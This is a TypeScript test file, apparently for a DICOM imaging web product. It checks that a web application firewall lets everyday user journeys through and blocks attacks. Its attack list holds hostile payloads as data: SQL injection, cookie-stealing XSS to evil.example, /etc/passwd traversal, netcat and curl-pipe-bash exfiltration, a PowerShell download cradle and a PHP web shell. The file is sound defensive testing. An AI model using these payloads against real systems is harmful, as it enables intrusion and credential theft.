// Rehearsal of the front door: everything people and machines do passes the firewall in blocking mode with no other
// exceptions than those of infra/waf.json, each of which is needed; attacks are blocked, at the excepted addresses too.
import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { readFileSync } from 'node:fs'
import path from 'node:path'
import { signedFetch, testDatabase } from '@instandt/testkit'
import { buildInstance, demoInspections, uidOf } from '@instandt/testkit/files'
import { type ChildBackend, startChildBackend, stowFile, temporaryFolder } from './child-backend.ts'
import { type Firewall, type FirewallList, firewallList, startFirewall, whyNoFirewall } from './firewall.ts'
import { startPages } from './release.ts'
import { sharedData, sharedFiles, whyNoSharedData } from './shared-data.ts'

export { whyNoFirewall } from './firewall.ts'

interface Walk {
  url: string
  scale: 'full' | 'small'
  /** Cookie of the signed-in administrator. */
  cookie: string
  /** Any answer but the firewall's is fine: what the product says to a request is proved elsewhere. */
  ask: (path: string, init?: RequestInit) => Promise<Response>
}

const admin = { email: 'first@shop.example', password: 'the crane lifts at seven; isn’t it 50 % off?' }
const json = (body: object, method = 'POST'): RequestInit => ({
  method,
  body: JSON.stringify(body),
  headers: { 'content-type': 'application/json' },
})

/** What is done every day. A later feature adds its own here. */
const journeys: [string, (walk: Walk) => Promise<void>][] = [
  [
    'pages',
    async ({ url, ask }) => {
      for (const page of ['/', '/sign-in', '/inspections', '/administration/users', '/profile', '/viewer/1.2.3'])
        await ask(page, { headers: { accept: 'text/html' } })
      const html = await (await fetch(url)).text()
      for (const [, asset] of html.matchAll(/(?:src|href)="(\/[^"]+)"/g)) await ask(asset ?? '/')
    },
  ],
  [
    'session and profile',
    async ({ ask }) => {
      for (const address of ['/api/session', '/api/profile', '/api/sign-in/options', '/health/live']) await ask(address)
      await ask('/api/profile', json({ name: 'Jürgen O’Brien-Müller', language: 'de' }, 'PATCH'))
      await ask(
        '/api/profile/password',
        json({ current: 'wrong; or 1=1 --', next: 'select a better one from the shelf' }),
      )
    },
  ],
  [
    'administration',
    async ({ ask }) => {
      await ask('/api/projects', json({ slug: 'pipeline-7', name: 'Pipeline 7 (weld & casting), 50 % "hot" <north>' }))
      await ask('/api/projects/pipeline-7', json({ name: "O'Brien's union: select pipes & valves" }, 'PATCH'))
      await ask(`/api/projects/pipeline-7/members/${randomUUID()}`, json({ role: 'level-ii' }, 'PUT'))
      await ask(`/api/projects/pipeline-7/members/${randomUUID()}`, { method: 'DELETE' })
      await ask('/api/tokens', json({ name: 'X-ray cabinet #3', role: 'sender', projects: ['default'] }))
      await ask('/api/invitations', json({ email: 'petra.weber@shop.example', name: 'Petra Weber', roles: [] }))
      await ask('/api/audit?action=study.read&from=2026-11-01T00:00:00Z&to=2026-11-30T23:59:59Z&limit=50')
    },
  ],
  [
    'searches',
    async ({ ask }) => {
      for (const query of [
        'PatientName=*O%27Brien*&StudyDate=20260101-20261231&limit=50&offset=100',
        'ComponentName=Turbine%20blade%20%231%20%28left%29&fuzzymatching=true',
        'AccessionNumber=WO-2026/0815*&ModalitiesInStudy=DX&includefield=all',
        '00100010=M%C3%BCller%5EJ%C3%BCrgen&includefield=00081030,00080090,00200010',
        `StudyInstanceUID=${Array.from({ length: 60 }, (_, index) => uidOf('long', index))
          .join(',')
          .slice(0, 3900)}`,
      ])
        await ask(`/dicom-web/studies?${query}`, { headers: { accept: 'application/dicom+json' } })
    },
  ],
  [
    'uploads and retrievals',
    async ({ url, scale, ask }) => {
      const uids = {
        studyInstanceUid: uidOf('door'),
        seriesInstanceUid: uidOf('door', 1),
        sopInstanceUid: uidOf('door', 1, 1),
      }
      const file = buildInstance({ ...uids, image: { rows: 256, columns: 256 } })
      assert.equal((await stowFile(url, file))?.status, 200, 'a file by itself')
      const odd = buildInstance({ ...uids, sopInstanceUid: uidOf('door', 1, 3), image: { rows: 64, columns: 64 } })
      odd.set(Buffer.from('\nGET /as-pixels HTTP/1.1\r\n'), odd.length - 300)
      assert.equal((await stowFile(url, odd))?.status, 200, 'pixels that look like a request')
      const boundary = 'instandt-boundary-7'
      const head = `--${boundary}\r\nContent-Type: application/dicom\r\n\r\n`
      const body = Buffer.concat([Buffer.from(head), file, Buffer.from(`\r\n--${boundary}--\r\n`)])
      const related = await ask('/dicom-web/studies', {
        method: 'POST',
        body,
        headers: {
          'content-type': `multipart/related; type="application/dicom"; boundary=${boundary}`,
          accept: 'application/dicom+json',
        },
      })
      assert.ok([200, 409].includes(related.status), `multipart/related: ${related.status}`)
      const instance = `/dicom-web/studies/${uids.studyInstanceUid}/series/${uids.seriesInstanceUid}/instances/${uids.sopInstanceUid}`
      for (const [address, accept] of [
        [`${instance}/frames/1`, 'multipart/related; type="application/octet-stream"; transfer-syntax=*'],
        [`${instance}/metadata`, 'application/dicom+json'],
        [instance, 'multipart/related; type="application/dicom"; transfer-syntax=*'],
        [`${instance}/rendered`, 'image/png'],
      ] as const)
        await ask(address, { headers: { accept } })
      for (const { name, bytes } of [...(await demoFiles(scale)), ...sharedSamples(scale)]) {
        const answer = await stowFile(url, bytes)
        assert.ok(
          answer !== undefined && answer.status !== 403,
          `${name}: ${answer?.status} ${answer?.text.slice(0, 80)}`,
        )
      }
      const big = buildInstance({
        ...uids,
        sopInstanceUid: uidOf('door', 1, 2),
        image: { rows: 4096, columns: 4096, frames: scale === 'full' ? 10 : 1 },
      })
      assert.equal((await stowFile(url, big))?.status, 200, `${Math.round(big.length / 1024 ** 2)} MiB`)
    },
  ],
]

async function demoFiles(scale: Walk['scale']): Promise<{ name: string; bytes: Uint8Array }[]> {
  const files: { name: string; bytes: Uint8Array }[] = []
  for await (const file of demoInspections()) {
    if (files.length >= (scale === 'full' ? 40 : 6)) break
    files.push({ name: file.name, bytes: file.bytes })
  }
  return files
}

function sharedSamples(scale: Walk['scale']): { name: string; bytes: Uint8Array }[] {
  if (whyNoSharedData !== undefined) return []
  return sharedFiles(scale === 'full' ? 1 : 25).map((name) => ({
    name,
    bytes: readFileSync(path.join(sharedData, name)),
  }))
}

/**
 * Address, and what else belongs to it; each must be answered with 403 by the firewall. Log4Shell is missing: Debian's rule
 * set has no rule against it, the managed one has.
 */
const attacks: [string, string, RequestInit?][] = [
  ['SQL in a search', "/dicom-web/studies?PatientName=' UNION SELECT password_hash FROM account--"],
  ['SQL with a tautology', "/api/audit?action=x' OR '1'='1"],
  ['SQL that waits', '/dicom-web/studies?AccessionNumber=1;SELECT pg_sleep(10)--'],
  ['script in a query', '/inspections?search=<script>alert(document.cookie)</script>'],
  ['script as an attribute', '/inspections?search="><img src=x onerror=alert(1)>'],
  [
    'script in JSON',
    '/api/projects',
    json({ slug: 'x', name: '<script>fetch("//evil.example/"+document.cookie)</script>' }),
  ],
  ['climbing out', '/api/../../../../etc/passwd?file=../../../../etc/passwd'],
  ['climbing out, encoded', '/dicom-web/studies?x=..%2f..%2f..%2f..%2fetc%2fshadow'],
  ['a system file', '/api/audit?file=/etc/passwd'],
  ['a shell command', '/api/audit?action=;cat /etc/passwd|nc evil.example 80'],
  ['a shell command in JSON', '/api/projects', json({ slug: 'x', name: '$(curl http://evil.example/x.sh | bash)' })],
  ['PowerShell', '/api/audit?action=powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient)'],
  ['PHP', '/inspections?page=php://input&cmd=<?php system($_GET["c"]); ?>'],
  ['a file from elsewhere', '/inspections?page=http://203.0.113.9/shell.txt?'],
  ['a scanner', '/', { headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }],
  ['another scanner', '/', { headers: { 'user-agent': 'Nikto/2.5.0' } }],
  ['a second request inside', '/api/audit?x=a%0d%0aHost:%20evil.example%0d%0aGET%20/admin%20HTTP/1.1'],
  ['Java inside', '/api/audit?x=java.lang.Runtime.getRuntime().exec("id")'],
  ['Node inside', '/api/projects', json({ slug: 'x', name: "require('child_process').exec('id')" })],
  ['a method nobody uses', '/api/session', { method: 'PROPFIND' }],
  [
    'SQL at an upload',
    "/dicom-web/studies?x=1' UNION SELECT null,version()--",
    { method: 'POST', body: 'DICM', headers: { 'content-type': 'application/dicom' } },
  ],
  [
    'a script at an upload',
    '/dicom-web/studies?x=<script>alert(1)</script>',
    { method: 'POST', body: 'DICM', headers: { 'content-type': 'application/dicom' } },
  ],
  ['SQL at a change', "/api/projects/default?x=1' OR '1'='1'--", json({ name: 'x' }, 'PATCH')],
]

async function walkAll(firewall: Firewall, scale: Walk['scale']): Promise<{ name: string; blocked: string[] }[]> {
  const enter = () =>
    fetch(`${firewall.url}/api/sign-in`, {
      ...json({ email: admin.email, password: admin.password }),
      headers: { 'content-type': 'application/json', origin: firewall.url },
    })
  // The first administrator is made right after the server began to listen.
  let signIn = await enter()
  for (let tries = 0; signIn.status === 401 && tries < 20; tries += 1) {
    await new Promise((resolve) => setTimeout(resolve, 250))
    signIn = await enter()
  }
  assert.equal(signIn.status, 200, `sign-in: ${await signIn.text()}`)
  const cookie = signIn.headers
    .getSetCookie()
    .map((one) => one.split(';')[0])
    .join('; ')
  const ask: Walk['ask'] = async (address, init = {}) => {
    const headers = {
      cookie,
      origin: firewall.url,
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Chrome/148.0',
      'accept-language': 'de-DE,de;q=0.9',
      ...(init.headers as Record<string, string> | undefined),
    }
    const answer = await fetch(`${firewall.url}${address}`, { redirect: 'manual', ...init, headers })
    await answer.clone().arrayBuffer()
    return answer
  }
  const results: { name: string; blocked: string[] }[] = []
  const told = (): string[] =>
    firewall
      .takeBlocked()
      .map((one) => `${one.uri.slice(0, 120)}: ${one.rules.join(' | ')}`)
      .filter((line) => !line.endsWith(': '))
  results.push({ name: 'sign-in', blocked: told() })
  for (const [name, walk] of journeys) {
    const fault = await walk({ url: firewall.url, scale, cookie, ask }).then(
      () => undefined,
      (error: Error) => error,
    )
    const blocked = told()
    // A journey that broke without the firewall's doing is a fault of the rehearsal.
    if (fault && blocked.length === 0) throw fault
    results.push({ name, blocked })
  }
  return results
}

export async function prove({ scale }: { scale: 'full' | 'small' }): Promise<void> {
  if (whyNoFirewall !== undefined) throw new Error(whyNoFirewall)
  const database = await testDatabase()
  const { folder, remove } = await temporaryFolder()
  const pages = await startPages()
  const frontDoorId = randomUUID()
  let backend: ChildBackend | undefined
  const firewalls: Firewall[] = []
  const open = async (list?: FirewallList): Promise<Firewall> => {
    const own = path.join(folder, `nginx-${firewalls.length}`)
    const made = await startFirewall({
      folder: own,
      backend: backend?.url ?? '',
      frontend: pages.url,
      frontDoorId,
      ...(list ? { list } : {}),
    })
    firewalls.push(made)
    return made
  }
  try {
    backend = await startChildBackend({
      databaseUrl: database.appUrl,
      storageDir: path.join(folder, 'blobs'),
      env: {
        FIRST_ADMIN_EMAIL: admin.email,
        FIRST_ADMIN_PASSWORD: admin.password,
        FRONT_DOOR_ID: frontDoorId,
        TRUSTED_PROXIES: '127.0.0.1',
      },
    })
    const door = await open()
    assert.equal(
      (await signedFetch(`${backend.url}/dicom-web/studies`)).status,
      403,
      'past the front door there is no way',
    )
    const passed = await walkAll(door, scale)
    assert.deepEqual(
      passed.filter((one) => one.blocked.length > 0),
      [],
      'everyday work passes',
    )

    const through: string[] = []
    for (const [name, address, init = {}] of attacks) {
      const answer = await fetch(`${door.url}${encodeURI(address).replaceAll('%25', '%')}`, init).catch(() => undefined)
      // The line in the log comes a moment after the answer.
      await new Promise((resolve) => setTimeout(resolve, 100))
      const speaks = door.takeBlocked().some((one) => one.rules.length > 0)
      if (answer?.status !== 403 || !speaks) through.push(`${name}: ${answer?.status}`)
    }
    assert.deepEqual(through, [], 'attacks are blocked')

    for (const limit of firewallList.rateLimits) {
      // Each by itself and with its number made small: thousands of requests would prove no more.
      const perMinute = Math.min(limit.perMinute, 60)
      const limited = await open({ ...firewallList, rateLimits: [{ ...limit, perMinute }] })
      const asked = Array.from({ length: perMinute * 2 }, () =>
        fetch(`${limited.url}${limit.paths[0] ?? ''}/options`).then((answer) => answer.status),
      )
      const refused = (await Promise.all(asked)).filter((status) => status === 429).length
      assert.ok(refused > 0 && refused < perMinute * 1.5, `${limit.name}: ${refused} of ${perMinute * 2} refused`)
    }

    const unneeded: string[] = []
    const entries = [...firewallList.exceptions, ...firewallList.exclusions]
    for (const entry of entries) {
      const list = {
        ...firewallList,
        rateLimits: [],
        exceptions: firewallList.exceptions.filter((one) => one !== entry),
        exclusions: firewallList.exclusions.filter((one) => one !== entry),
      }
      const results = await walkAll(await open(list), 'small')
      if (results.every((one) => one.blocked.length === 0)) unneeded.push(entry.name)
    }
    assert.deepEqual(unneeded, [], 'every exception is needed')
    process.stdout.write(
      `front-door: ${passed.length} journeys passed, ${attacks.length} attacks blocked, ${entries.length} exceptions needed${whyNoSharedData === undefined ? '' : `; ${whyNoSharedData}`}\n`,
    )
  } finally {
    for (const firewall of firewalls) await firewall.stop()
    await backend?.stop()
    pages.child.kill()
    await database.stop()
    await remove()
  }
}
